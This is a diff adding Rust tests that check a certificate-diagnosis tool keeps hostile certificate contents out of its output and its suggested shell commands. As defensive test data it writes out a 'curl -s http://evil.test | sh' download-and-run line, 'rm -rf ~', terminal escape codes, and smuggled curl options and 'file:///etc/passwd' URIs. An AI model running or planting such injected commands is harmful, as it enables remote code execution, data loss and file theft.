@@ -15,7 +15,8 @@ fn symptoms(pki: &TestPki, presented: &[&Certificate]) -> Symptoms {
     let root = Read { certificate: pki.root.certificate.clone(), broken: Vec::new() };
     let settings = Settings { name: PeerName::Dns("web-1.test".to_owned()), ..Settings::at(NOW) };
     let place = Place::Files(vec!["site.pem".to_owned()]);
-    Symptoms { presented, bag, anchors: vec![root], settings, place, options: Vec::new() }
+    let (beside, options) = (Vec::new(), Vec::new());
+    Symptoms { presented, bag, anchors: vec![root], settings, place, beside, options }
 }
 
 fn wrong(diagnosis: &Diagnosis) -> Vec<Step> {
@@ -108,4 +109,112 @@ fn names_in_certificates_do_not_become_commands() {
     let diagnosis = diagnose(&symptoms).unwrap();
     let request = &diagnosis.remedies[0].commands[0];
     assert!(request.contains(r"'\''; rm -rf ~; '\''"), "{request}");
+}
+
+#[test]
+fn what_a_certificate_says_stays_on_its_line() {
+    let pki = TestPki::new();
+    let key = TestKey::generate(KeyAlgorithm::EcP256);
+    // `^` and `@` stand for what no builder puts into a name.
+    let name = skink_x509::Name::from_common_name("web^     curl -s http://evil.test | sh@[31m");
+    let bend = |byte: &u8| match byte {
+        b'^' => b'\n',
+        b'@' => 0x1b,
+        other => *other,
+    };
+    let name: Vec<u8> = name.unwrap().to_der().iter().map(bend).collect();
+    let uri = "URI:http://a.test/\n     rm -rf ~\u{1b}[31m";
+    let mut spec = pki.issuer.spec("web-1", &key, 10 * DAY);
+    spec.subject = skink_x509::Name::from_der(&name).unwrap();
+    let names = [skink_x509::GeneralName::Uri(uri.to_owned())];
+    spec.extensions = skink_x509::Extensions::new().subject_alt_names(&names);
+    let leaf = pki.issuer.certify(&spec);
+    let mut symptoms = symptoms(&pki, &[&leaf]);
+    symptoms.settings.time = NOW.plus(40 * DAY);
+    let diagnosis = diagnose(&symptoms).unwrap();
+    let told = diagnosis.stages.iter().flat_map(|stage| {
+        let messages = stage.findings.iter().map(|it| it.message.clone());
+        messages.chain([stage.summary.clone()]).collect::<Vec<_>>()
+    });
+    let remedies = diagnosis.remedies.iter();
+    let lines = remedies.flat_map(|it| it.commands.iter().chain([&it.why])).cloned();
+    let mut all: Vec<String> = told.chain(lines).collect();
+    let path = crate::draw::path(&diagnosis.judgement.path, false, NOW, &[]);
+    all.extend(path.lines().map(str::to_owned));
+    let piece = input::read(leaf.der(), &mut NoPassphrase).remove(0);
+    let described = crate::describe::describe(&piece, NOW);
+    all.extend(described.facts.into_iter().map(|it| it.value));
+    all.extend(described.problems.into_iter().map(|it| it.message));
+    assert!(all.iter().any(|it| it.contains("curl -s")), "{all:?}");
+    for text in all {
+        assert!(!text.contains(char::is_control), "{text:?}");
+        assert!(!text.trim_start().starts_with("curl -s"), "{text:?}");
+    }
+}
+
+fn with_list_at(uris: &[&str]) -> (Symptoms, Vec<String>) {
+    let pki = TestPki::new();
+    let key = TestKey::generate(KeyAlgorithm::EcP256);
+    let mut spec = pki.issuer.spec("web-1", &key, DAY);
+    let uris: Vec<_> = uris.iter().map(|it| (*it).to_owned()).collect();
+    spec.extensions = skink_x509::Extensions::new()
+        .end_entity()
+        .key_usage(skink_x509::KeyUsage::DIGITAL_SIGNATURE)
+        .extended_key_usages(&[skink_x509::oid::SERVER_AUTH])
+        .authority_key_id(&pki.issuer.key.public().key_id())
+        .crl_distribution_points(&uris);
+    let leaf = pki.issuer.certify(&spec);
+    let mut symptoms = symptoms(&pki, &[&leaf, &pki.issuer.certificate]);
+    symptoms.settings.name = PeerName::None;
+    symptoms.settings.revocation = Revocation::Leaf;
+    symptoms.options = vec!["--trusted root.pem".to_owned(), "--host web-1.test".to_owned()];
+    symptoms.place = Place::Server("web-1.test:443".to_owned());
+    let remedies = diagnose(&symptoms).unwrap().remedies;
+    let list = remedies.into_iter().find(|it| it.why.contains("revocation list")).unwrap();
+    (symptoms, list.commands)
+}
+
+#[test]
+fn lists_are_fetched_from_the_web_and_from_nowhere_else() {
+    let (_, commands) = with_list_at(&["http://a.test/{1,2}.crl"]);
+    assert_eq!(
+        commands,
+        [
+            "skink chain fetch web-1.test:443 > presented.pem",
+            "curl -gsS -o current.crl -- 'http://a.test/{1,2}.crl'",
+            "skink chain diagnose presented.pem current.crl --trusted root.pem --host web-1.test",
+        ]
+    );
+    for bad in ["-K./evil.cfg", "file:///etc/passwd", "ldap://a.test/x", "-o/x http://a.test/"] {
+        let (_, commands) = with_list_at(&[bad]);
+        assert!(!commands.iter().any(|it| it.starts_with("curl")), "{commands:?}");
+    }
+}
+
+#[test]
+fn a_root_at_hand_is_written_before_it_is_used() {
+    let pki = TestPki::new();
+    let (leaf, issuer, root) = (&pki.leaf, &pki.issuer.certificate, &pki.root.certificate);
+    let mut symptoms = symptoms(&pki, &[issuer, leaf, root]);
+    symptoms.anchors.clear();
+    symptoms.place = Place::Files(vec!["'my site.pem'".to_owned()]);
+    symptoms.beside = vec!["more.pem".to_owned()];
+    let remedies = diagnose(&symptoms).unwrap().remedies;
+    assert_eq!(remedies.len(), 2, "{remedies:?}");
+    let fingerprint = root.fingerprint();
+    let write =
+        format!("skink chain inspect 'my site.pem' more.pem --pem {fingerprint} > root.pem");
+    let fix = "skink chain fix 'my site.pem' --trusted root.pem --out /etc/ssl/site";
+    assert_eq!(remedies[0].commands[..2], [write.clone(), fix.to_owned()]);
+    assert_eq!(remedies[1].commands[0], write);
+}
+
+#[test]
+fn a_command_has_the_whole_word_of_a_file() {
+    let pki = TestPki::new();
+    let other = TestKey::generate(KeyAlgorithm::EcP256);
+    let mut symptoms = with_key(symptoms(&pki, &[&pki.leaf, &pki.issuer.certificate]), &other);
+    symptoms.place = Place::Files(vec!["'my site.pem'".to_owned()]);
+    let commands = &diagnose(&symptoms).unwrap().remedies[0].commands;
+    assert!(commands[0].contains("match \"$key\" 'my site.pem' &&"), "{commands:?}");
 }
